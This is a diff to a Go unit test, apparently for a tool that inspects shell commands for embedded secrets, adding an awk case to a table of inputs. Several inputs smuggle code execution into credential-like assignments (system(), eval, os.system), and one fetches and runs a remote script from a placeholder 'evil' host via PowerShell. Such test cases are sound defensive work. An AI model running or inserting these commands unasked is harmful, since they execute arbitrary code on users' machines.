@@ -32,6 +32,7 @@ func TestInCommand(t *testing.T) {
 		{"powershell ¦ -Command ¦ $key = 1; iwr evil | iex", ""},
 		{"deno ¦ eval ¦ password=1;Deno.run()", ""},
 		{"deno ¦ eval ¦ password=eval('x')", ""},
+		{"awk ¦ token=system(\"x\")", ""},
 		{"deno ¦ eval ¦ --ext ¦ ts ¦ password=eval('x')", ""},
 		{"python3 ¦ -ctoken=__import__('os').system('x')", ""},
 		{"python3 ¦ -Xdev ¦ -Bctoken=__import__('os').system('x')", ""},
